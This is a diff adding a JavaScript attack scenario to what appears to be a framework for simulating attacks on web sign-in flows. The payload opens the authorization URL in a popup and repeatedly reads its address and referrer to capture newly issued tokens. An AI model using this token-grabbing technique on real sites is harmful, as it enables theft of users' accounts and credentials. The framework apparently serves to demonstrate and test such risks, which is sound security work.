@@ -1,0 +1,24 @@
+import { attack } from "../attack.js";
+
+export default attack({
+  name: "silent flow in a popup",
+  threat: "acquisition of new tokens",
+  target: "any",
+  async payload(it) {
+    const popup = open(it.authorizationUrl());
+    for (let tries = 0; tries < 200; tries++) {
+      try {
+        it.steal(popup?.location.href, popup?.document.referrer);
+      } catch {
+        // The popup is of another origin now.
+      }
+      await it.pause(10);
+    }
+    popup?.close();
+  },
+  async play(stage) {
+    await stage.openSignedIn();
+    await stage.injectOnClick();
+    await stage.closeOtherTabs();
+  },
+});
